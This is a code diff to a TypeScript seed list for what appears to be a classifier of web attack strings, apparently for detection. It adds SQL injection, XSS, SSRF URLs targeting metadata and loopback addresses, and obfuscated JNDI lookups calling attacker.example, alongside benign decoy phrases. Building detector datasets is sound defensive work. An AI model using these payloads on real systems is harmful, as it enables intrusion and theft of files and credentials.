@@ -15,6 +15,8 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "1'; WAITFOR DELAY '0:0:5'--", "1 UNION/**/SELECT/**/1,2,3", "1/*!50000UNION*/ /*!50000SELECT*/ 1,2", "' or true--",
     "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--", "1' and benchmark(10000000,md5(1))--", "'||pg_sleep(5)--",
     "' GROUP BY columnnames having 1=1 --", "' or username like '%admin%'--", "1 or 1=1#", "0x50 or 1=1", "') union select 1,load_file('/etc/passwd')--",
+    "1' AND 1=1 AND 'a'='a", "admin' or '1'='1'/*", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "' HAVING 1=1--", "x' AND email IS NULL; --",
+    "' or 1=1 limit 1;#", "1;select pg_sleep(10)", "'+(select*from(select(sleep(5)))a)+'", "admin\"--",
   ],
   xss: [
     "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
@@ -23,7 +25,8 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "<IMG SRC=JaVaScRiPt:alert('XSS')>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
     "<video><source onerror=\"alert(1)\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
     "<div style=\"width: expression(alert(1))\">", "<marquee onstart=alert(1)>", "' autofocus onfocus='alert(1)", "<embed src=javascript:alert(1)>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<scr<script>ipt>alert(1)</script>", "<base href=\"javascript:alert(1)//\">",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=0>", "javascript&colon;alert(1)", "\"><svg onload=confirm`1`>", "<x onclick=alert(1)>click", "<scr<script>ipt>alert(1)</script>", "<base href=\"javascript:alert(1)//\">",
   ],
   traversal: [
     "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "/var/www/../../etc/shadow",
@@ -46,7 +49,7 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "http://localhost:6379/", "http://127.0.0.1:8080/admin", "http://2130706433/", "http://0177.0.0.1/", "http://0x7f000001/", "http://0x7f.0x0.0x0.0x1/",
     "http://10.0.0.12/internal", "http://192.168.1.1/", "http://172.16.5.4:9200/_cat/indices", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats",
     "http://user:pass@127.0.0.1/", "http://[::1]:22/", "http://[::ffff:127.0.0.1]/", "http://169.254.169.254.nip.io/", "http://0/", "http://127.1/",
-    "http://100.100.100.200/latest/meta-data/", "https://kubernetes.default.svc.cluster.internal/",
+    "http://100.100.100.200/latest/meta-data/", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://017700000001/", "https://kubernetes.default.svc.cluster.internal/",
   ],
   xxe: [
     "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
@@ -57,7 +60,7 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
   jndi: [
     "${jndi:ldap://attacker.example/a}", "${jndi:rmi://attacker.example:1099/obj}", "${jndi:dns://attacker.example}", "${${lower:j}ndi:${lower:l}dap://x/a}",
     "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
-    "${jNdI:LdAp://x/a}", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x}", "Mozilla/5.0 ${jndi:ldap://x/ua}", "${j${k8s:k5:-ND}i:ldap://x}",
+    "${jNdI:LdAp://x/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://x}", "${${lower:${lower:jndi}}:ldap://x}", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x}", "Mozilla/5.0 ${jndi:ldap://x/ua}", "${j${k8s:k5:-ND}i:ldap://x}",
   ],
   ssti: [
     "{{7*7}}", "{{7*'7'}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
@@ -85,7 +88,8 @@ const benign: string[] = [
   "<p>Thanks for your order!</p>", "<a href=\"https://example.com\">link</a>", "SELECT", "Drop table tennis practice is on Monday",
   "update: shipped", "insert coin", "exec summary attached", "Sleep well", "waitfor it", "Be there or be square", "1 or more items",
   "localhost is fine for development", "see 10.0.0.1 in the docs", "file.tar.gz", "photo.jpeg", "Mr. & Mrs. Smith",
-  "#{name}", "{{ user.name }}", "<%= title %>", "${price}", "Tom's; Jerry's", "Meet me @ 5pm", "ID: 12-34-56",
+  "#{name}", "{{ user.name }}", "I love O'Reilly books", "SELECT your preferred size", "email me; thanks", "50% off | today",
+  "https://localhost.example.com/", "Dear Sir/Madam, please find attached", "Q: what's 2*3? A: 6", "if (a < b) { return a; }", "<%= title %>", "${price}", "Tom's; Jerry's", "Meet me @ 5pm", "ID: 12-34-56",
 ];
 
 function urlEncodeAll(s: string): string { return [...Buffer.from(s)].map((b) => "%" + b.toString(16).toUpperCase().padStart(2, "0")).join(""); }
